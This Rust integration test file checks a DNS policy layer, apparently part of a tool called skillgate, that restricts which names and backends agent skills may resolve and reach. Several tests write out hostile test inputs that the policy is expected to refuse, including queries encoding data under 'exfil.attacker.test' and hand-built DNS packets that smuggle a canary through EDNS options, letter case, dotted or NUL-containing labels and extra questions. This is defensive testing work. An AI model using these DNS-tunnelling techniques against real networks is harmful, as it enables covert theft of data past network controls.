//! Names: backends declared by name, reached through what the skill resolved, and the DNS
//! policy that keeps every other name from reaching a resolver. The resolver is a real
//! dnsmasq on loopback with local records, which logs every query it gets.

use std::time::Duration;

use skillgate_tests::{DnsServer, Dnsmasq, Env, PROBE_PY, Probe, Server};

/// Where skills send their queries: no server listens there, only the redirect to the
/// agent's forwarder answers.
const RESOLVER: &str = "127.0.0.99";

fn policy(backend: &Server) -> String {
    format!(
        r#"
[[skill]]
name = "reporter"

[[skill]]
name = "other"

[[backend]]
name = "orders"
protocol = "tcp"
dial = ["orders.skillgate.test:8443"]
upstream = "{}"

[[rule]]
skills = ["reporter"]
backend = "orders"
effect = "allow"

[[rule]]
name = "mirror"
skills = ["reporter"]
dns = ["*.mirror.skillgate.test"]
effect = "allow"
"#,
        backend.addr
    )
}

fn dnsmasq(ttl: u32) -> Dnsmasq {
    Dnsmasq::start(
        &std::env::temp_dir(),
        ttl,
        &[
            "--host-record=orders.skillgate.test,127.0.0.5",
            "--host-record=files.mirror.skillgate.test,127.0.0.7",
            "--txt-record=files.mirror.skillgate.test,hello",
            "--host-record=lb.elsewhere.test,127.0.0.6",
            "--cname=web.mirror.skillgate.test,lb.elsewhere.test",
        ],
    )
}

fn env(name: &str, backend: &Server, dns: &Dnsmasq, extra: &str) -> Env {
    Env::with_config(
        name,
        &policy(backend),
        &format!("dns_upstream = [\"{}\"]\n{extra}", dns.addr),
    )
}

fn run_probe(env: &Env, skill: &str, actions: &[String]) -> Probe {
    env.probe_as_skill(skill, &[], actions)
}

fn query(name: &str, rest: &str) -> String {
    format!("query:{RESOLVER},{name}{rest}")
}

/// The recorded DNS events, as `sessions export` gives them.
fn dns_events(env: &Env) -> Vec<serde_json::Value> {
    env.wait_for_sessions_to_end();
    env.events()
        .into_iter()
        .filter(|e| e["kind"] == "dns")
        .collect()
}

#[test]
fn a_skill_reaches_a_backend_declared_by_name_only_through_the_name() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(60);
    let env = env("dns-name", &backend, &dns, "");
    let _agent = env.start_agent();
    // glibc's resolver through a resolv.conf naming a loopback server, in a private mount
    // namespace: the way a real client resolves.
    let resolv = env.dir.join("resolv.conf");
    std::fs::write(
        &resolv,
        format!("nameserver {RESOLVER}\noptions attempts:1 timeout:3\n"),
    )
    .unwrap();
    let out = env.run_in_cgroup_with(
        &["unshare", "-m"],
        &format!("mount --bind '{}' /etc/resolv.conf", resolv.display()),
        "reporter",
        PROBE_PY,
        &[
            // The address, dialed before the skill resolved the name: only the name is
            // declared, so it is no backend.
            "tcp:127.0.0.5,8443".to_owned(),
            "tcp:orders.skillgate.test,8443".to_owned(),
            // Now the skill resolved it: the address leads to the backend.
            "tcp:127.0.0.5,8443".to_owned(),
        ],
    );
    let probe = Probe::from_output(out);
    assert!(
        probe.result(0).starts_with("err ConnectionResetError"),
        "{}",
        probe.result(0)
    );
    assert!(
        probe.result(1).starts_with("ok orders saw"),
        "{}",
        probe.result(1)
    );
    assert!(
        probe.result(2).starts_with("ok orders saw"),
        "{}",
        probe.result(2)
    );
    // Another skill, which may not reach the backend, may not resolve its name either.
    let other = run_probe(&env, "other", &[query("orders.skillgate.test", "")]);
    assert_eq!(other.result(0), "ok rcode=5 ");

    let events = dns_events(&env);
    let decided: Vec<_> = events
        .iter()
        .filter(|e| e["operation"] == "A orders.skillgate.test.")
        .collect();
    assert!(
        decided
            .iter()
            .any(|e| e["decision"] == "allow" && e["skill"] == "reporter"),
        "{events:#?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["reason"].as_str().unwrap_or("").contains("127.0.0.5")),
        "the answer's address is recorded: {events:#?}"
    );
    assert!(
        decided
            .iter()
            .any(|e| e["decision"] == "deny" && e["skill"] == "other"),
        "{events:#?}"
    );
    // `replay` shows a query's session; `stats` counts queries per skill.
    let session = decided[0]["session_id"].to_string();
    let replay = env.cli(&["replay", &session]);
    assert!(replay.contains("A orders.skillgate.test."), "{replay}");
    let stats = env.cli(&["stats"]);
    assert!(stats.contains("dns"), "{stats}");
}

#[test]
fn names_no_rule_allows_never_reach_the_resolver() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(60);
    let metrics = skillgate_tests::free_port();
    let env = env(
        "dns-refused",
        &backend,
        &dns,
        &format!("metrics_listen = \"127.0.0.1:{metrics}\""),
    );
    let _agent = env.start_agent();
    let probe = run_probe(
        &env,
        "reporter",
        &[
            query("c2VjcmV0LWRhdGE.exfil.attacker.test", ""),
            query("files.mirror.skillgate.test", ",TXT"),
            query("files.mirror.skillgate.test", ""),
            // Not DNS at all: dropped and counted, never forwarded.
            format!("udp_connect:{RESOLVER},53"),
            format!("udp_sendto:{RESOLVER},53"),
        ],
    );
    let scraped = std::process::Command::new("curl")
        .args(["-sS", &format!("http://127.0.0.1:{metrics}/metrics")])
        .output()
        .unwrap();
    let scraped = String::from_utf8_lossy(&scraped.stdout);
    assert!(
        scraped.contains("skillgate_dns_malformed_total 2"),
        "{scraped}"
    );
    assert_eq!(probe.result(0), "ok rcode=5 ");
    // TXT is no address query: only a rule listing it in `dns_types` lets it through.
    assert_eq!(probe.result(1), "ok rcode=5 ");
    assert_eq!(probe.result(2), "ok rcode=0 127.0.0.7");
    let log = dns.log();
    assert!(
        !log.contains("attacker"),
        "a refused name reached the resolver: {log}"
    );
    assert!(
        !log.contains("query[TXT]"),
        "a refused type reached the resolver: {log}"
    );
    assert!(
        log.contains("query[A] files.mirror.skillgate.test"),
        "{log}"
    );

    let events = dns_events(&env);
    let refused = events
        .iter()
        .find(|e| e["operation"] == "A c2VjcmV0LWRhdGE.exfil.attacker.test.")
        .unwrap_or_else(|| panic!("the refused query is recorded: {events:#?}"));
    assert_eq!(refused["decision"], "deny");
    assert!(
        refused["reason"]
            .as_str()
            .unwrap()
            .contains("no `dns` rule"),
        "{refused}"
    );
    let allowed = events
        .iter()
        .find(|e| e["operation"] == "A files.mirror.skillgate.test." && e["decision"] == "allow")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(allowed["rule"], "mirror");
}

#[test]
fn an_answer_whose_cname_leaves_the_allowed_names_is_refused() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(60);
    let env = env("dns-cname", &backend, &dns, "");
    let _agent = env.start_agent();
    let probe = run_probe(&env, "reporter", &[query("web.mirror.skillgate.test", "")]);
    assert_eq!(probe.result(0), "ok rcode=5 ");
    // The name was allowed, so the resolver was asked; its answer was not.
    assert!(dns.log().contains("web.mirror.skillgate.test"));
    let events = dns_events(&env);
    assert!(
        events.iter().any(|e| e["decision"] == "refused"
            && e["reason"]
                .as_str()
                .unwrap_or("")
                .contains("lb.elsewhere.test")),
        "{events:#?}"
    );
}

#[test]
fn dns_over_tcp_is_decided_the_same_way() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(60);
    let env = env("dns-tcp", &backend, &dns, "");
    let _agent = env.start_agent();
    let probe = run_probe(
        &env,
        "reporter",
        &[
            query("orders.skillgate.test", ",A,tcp"),
            query("leak.attacker.test", ",A,tcp"),
            // Resolved over TCP, the address leads to the backend as well.
            "tcp:127.0.0.5,8443".to_owned(),
        ],
    );
    assert_eq!(probe.result(0), "ok rcode=0 127.0.0.5");
    assert_eq!(probe.result(1), "ok rcode=5 ");
    assert!(
        probe.result(2).starts_with("ok orders saw"),
        "{}",
        probe.result(2)
    );
    assert!(!dns.log().contains("attacker"));
    assert!(
        dns.log()
            .contains("query[A] orders.skillgate.test from 127.0.0.1")
    );
}

#[test]
fn an_expired_answer_no_longer_leads_to_the_backend() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(1);
    let env = env(
        "dns-ttl",
        &backend,
        &dns,
        "dns_min_ttl_secs = 1\ndns_max_ttl_secs = 1",
    );
    let _agent = env.start_agent();
    let first = run_probe(
        &env,
        "reporter",
        &[
            query("orders.skillgate.test", ""),
            "tcp:127.0.0.5,8443".to_owned(),
        ],
    );
    assert_eq!(first.result(0), "ok rcode=0 127.0.0.5");
    assert!(
        first.result(1).starts_with("ok orders saw"),
        "{}",
        first.result(1)
    );
    std::thread::sleep(Duration::from_millis(2500));
    let later = run_probe(&env, "reporter", &["tcp:127.0.0.5,8443".to_owned()]);
    assert!(
        later.result(0).starts_with("err ConnectionResetError"),
        "{}",
        later.result(0)
    );
}

#[test]
fn the_agent_resolves_an_upstream_host_name_again_when_its_answer_expires() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = Dnsmasq::start(
        &std::env::temp_dir(),
        1,
        &["--host-record=db.upstream.skillgate.test,127.0.0.1"],
    );
    let policy = format!(
        "[[skill]]\nname = \"reporter\"\n\n[[backend]]\nname = \"orders\"\nprotocol = \"tcp\"\n\
         dial = [\"127.0.0.2:8443\"]\nupstream = \"db.upstream.skillgate.test:{}\"\n\n\
         [[rule]]\nskills = [\"reporter\"]\nbackend = \"orders\"\neffect = \"allow\"\n",
        backend.addr.port()
    );
    let env = Env::with_config(
        "dns-upstream",
        &policy,
        &format!("dns_upstream = [\"{}\"]", dns.addr),
    );
    let _agent = env.start_agent();
    let asked = || {
        dns.log()
            .matches("query[A] db.upstream.skillgate.test")
            .count()
    };
    let dial = || run_probe(&env, "reporter", &["tcp:127.0.0.2,8443".to_owned()]);
    for _ in 0..2 {
        let probe = dial();
        assert!(
            probe.result(0).starts_with("ok orders saw"),
            "{}",
            probe.result(0)
        );
    }
    // Both connections used one answer (a TTL of 1 s is held for the 5 s floor).
    assert_eq!(asked(), 1, "{}", dns.log());
    std::thread::sleep(Duration::from_millis(5500));
    let probe = dial();
    assert!(
        probe.result(0).starts_with("ok orders saw"),
        "{}",
        probe.result(0)
    );
    assert_eq!(asked(), 2, "{}", dns.log());
}

#[test]
fn names_of_two_backends_on_one_address_are_told_apart_by_the_host_asked_for() {
    let api = Server::start("api", "127.0.0.1:0");
    let admin = Server::start("admin", "127.0.0.1:0");
    let dns = Dnsmasq::start(
        &std::env::temp_dir(),
        60,
        &[
            "--host-record=api.skillgate.test,127.0.0.8",
            "--host-record=admin.skillgate.test,127.0.0.8",
        ],
    );
    let mut policy = "[[skill]]\nname = \"reporter\"\n".to_owned();
    for (name, server) in [("api", &api), ("admin", &admin)] {
        policy.push_str(&format!(
            "\n[[backend]]\nname = \"{name}\"\nprotocol = \"tcp\"\n\
             dial = [\"{name}.skillgate.test:8080\"]\nupstream = \"{}\"\n\n[[rule]]\n\
             skills = [\"reporter\"]\nbackend = \"{name}\"\neffect = \"allow\"\n",
            server.addr
        ));
    }
    let env = Env::with_config(
        "dns-shared",
        &policy,
        &format!("dns_upstream = [\"{}\"]", dns.addr),
    );
    let _agent = env.start_agent();
    let resolved = run_probe(
        &env,
        "reporter",
        &[
            query("api.skillgate.test", ""),
            query("admin.skillgate.test", ""),
        ],
    );
    assert_eq!(resolved.result(0), "ok rcode=0 127.0.0.8");
    assert_eq!(resolved.result(1), "ok rcode=0 127.0.0.8");
    let dial = "127.0.0.8:8080".parse().unwrap();
    let ask = |host: &str| {
        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
        String::from_utf8_lossy(&env.raw_exchange("reporter", dial, head.as_bytes())).into_owned()
    };
    assert!(
        ask("admin.skillgate.test:8080").starts_with("admin saw"),
        "{}",
        ask("admin.skillgate.test")
    );
    assert!(ask("api.skillgate.test").starts_with("api saw"));
    // A Host that names neither leaves the connection ambiguous: refused.
    assert_eq!(ask("elsewhere.test"), "");
    // A TLS ClientHello's server name does the same.
    let (api_before, admin_before) = (api.peers().len(), admin.peers().len());
    let hello = "import socket, ssl\n\
        s = socket.create_connection(('127.0.0.8', 8080), timeout=10)\n\
        try:\n\
        \x20   ssl.create_default_context().wrap_socket(s, server_hostname='admin.skillgate.test')\n\
        except Exception as e:\n\
        \x20   print(type(e).__name__)";
    env.exec_python("reporter", hello, &[]);
    assert_eq!(api.peers().len(), api_before);
    assert_eq!(admin.peers().len(), admin_before + 1);
}

#[test]
fn observe_mode_answers_and_records_what_it_would_refuse() {
    let backend = Server::start("orders", "127.0.0.1:0");
    let dns = dnsmasq(60);
    let policy = format!("mode = \"observe\"\n{}", policy(&backend));
    let env = Env::with_config(
        "dns-observe",
        &policy,
        &format!("dns_upstream = [\"{}\"]", dns.addr),
    );
    let _agent = env.start_agent();
    let probe = run_probe(
        &env,
        "reporter",
        &[
            query("lb.elsewhere.test", ""),
            query("web.mirror.skillgate.test", ""),
        ],
    );
    assert_eq!(probe.result(0), "ok rcode=0 127.0.0.6");
    // A chain that leaves the allowed names is answered too, and recorded as what it would be.
    assert_eq!(probe.result(1), "ok rcode=0 cname,127.0.0.6");
    let events = dns_events(&env);
    let decided = events
        .iter()
        .find(|e| e["operation"] == "A lb.elsewhere.test.")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(decided["decision"], "allow");
    assert!(
        decided["reason"]
            .as_str()
            .unwrap()
            .starts_with("observe mode (would be deny"),
        "{decided}"
    );
    assert!(
        events.iter().any(|e| e["reason"]
            .as_str()
            .unwrap_or("")
            .contains("observe mode (would be refused: the answer's CNAME chain")),
        "{events:#?}"
    );
}

#[test]
fn an_http_backend_reached_by_upstream_name_gets_that_name_as_its_host() {
    let backend = skillgate_tests::HttpBackend::start();
    let dns = Dnsmasq::start(
        &std::env::temp_dir(),
        60,
        &["--host-record=api.upstream.skillgate.test,127.0.0.1"],
    );
    let upstream = format!("api.upstream.skillgate.test:{}", backend.addr.port());
    let policy = format!(
        "[[skill]]\nname = \"reporter\"\n\n[[backend]]\nname = \"api\"\nprotocol = \"http\"\n\
         dial = [\"127.0.0.2:8080\"]\nupstream = \"{upstream}\"\n\n[[rule]]\n\
         skills = [\"reporter\"]\nbackend = \"api\"\neffect = \"allow\"\n\
         http = {{ methods = [\"GET\"], paths = [\"/echo\"] }}\n"
    );
    let env = Env::with_config(
        "dns-host",
        &policy,
        &format!("dns_upstream = [\"{}\"]", dns.addr),
    );
    let _agent = env.start_agent();
    let curl = env.curl_as("reporter", &["http://127.0.0.2:8080/echo"]);
    assert_eq!(curl.status, 200, "{curl:?}");
    let requests = backend.requests();
    // A virtual host behind the name needs the name, not the address it resolved to.
    assert_eq!(
        requests[0]["headers"]["host"],
        upstream.as_str(),
        "{requests:?}"
    );
}

/// A DNS message in hex: id 0x5348, RD, the questions given as raw labels (any bytes, dots
/// included) and type A, then `extra` additional records.
fn raw_query(questions: &[&[&[u8]]], extra: &[u8], additional: u16) -> String {
    let mut msg = vec![0x53, 0x48, 0x01, 0x00];
    msg.extend_from_slice(&(questions.len() as u16).to_be_bytes());
    msg.extend_from_slice(&[0, 0, 0, 0]);
    msg.extend_from_slice(&additional.to_be_bytes());
    for labels in questions {
        for label in *labels {
            msg.push(label.len() as u8);
            msg.extend_from_slice(label);
        }
        msg.extend_from_slice(&[0, 0, 1, 0, 1]);
    }
    msg.extend_from_slice(extra);
    msg.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn hostile_queries_reach_the_resolver_only_as_the_question_decided() {
    // A resolver that keeps every datagram it gets: the oracle for what leaves the host.
    let resolver = DnsServer::start("127.0.0.1:0");
    let policy = "[[skill]]\nname = \"reporter\"\n\n[[rule]]\nskills = [\"reporter\"]\n\
                  dns = [\"*.mirror.skillgate.test\"]\neffect = \"allow\"\n";
    let env = Env::with_config(
        "dns-hostile",
        policy,
        &format!("dns_upstream = [\"{}\"]", resolver.addr),
    );
    let _agent = env.start_agent();
    let canary = b"EXFIL-CANARY-7f3a";
    // An EDNS OPT record whose option (code 65001) carries the canary.
    let mut opt = vec![0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0];
    opt.extend_from_slice(&((canary.len() + 4) as u16).to_be_bytes());
    opt.extend_from_slice(&[0xfd, 0xe9]);
    opt.extend_from_slice(&(canary.len() as u16).to_be_bytes());
    opt.extend_from_slice(canary);
    let allowed: &[&[u8]] = &[b"FiLeS", b"MiRrOr", b"skillgate", b"test"];
    let actions: Vec<String> = [
        // An allowed name whose letter case and EDNS option carry data.
        raw_query(&[allowed], &opt, 1),
        // One label holding dots: read as text, it would look like a name under the rule.
        raw_query(
            &[&[b"c2VjcmV0.attacker", b"mirror", b"skillgate", b"test"]],
            &[],
            0,
        ),
        // A label with a NUL byte in it.
        raw_query(&[&[b"x\0leak", b"mirror", b"skillgate", b"test"]], &[], 0),
        // Two questions, an allowed one first.
        raw_query(&[allowed, &[b"leak", b"attacker", b"test"]], &[], 0),
    ]
    .iter()
    .map(|hex| format!("query_hex:{RESOLVER},{hex}"))
    .collect();
    let probe = run_probe(&env, "reporter", &actions);
    assert_eq!(probe.result(0), "ok rcode=0 127.0.0.42");
    assert_eq!(probe.result(1), "ok rcode=5 ");
    assert_eq!(probe.result(2), "ok rcode=5 ");
    assert_eq!(probe.result(3), "ok no-answer");
    let received = resolver.received();
    assert_eq!(
        received.len(),
        1,
        "only the decided question left: {received:?}"
    );
    let sent = &received[0];
    assert!(!sent.windows(canary.len()).any(|w| w == canary), "{sent:?}");
    assert_ne!(
        sent[..2],
        [0x53, 0x48],
        "the skill's id is not the resolver's"
    );
    assert!(
        sent.windows(6).any(|w| w == b"\x05files"),
        "the name is asked in lower case: {sent:?}"
    );
    assert!(!sent.windows(5).any(|w| w == b"FiLeS"));
}
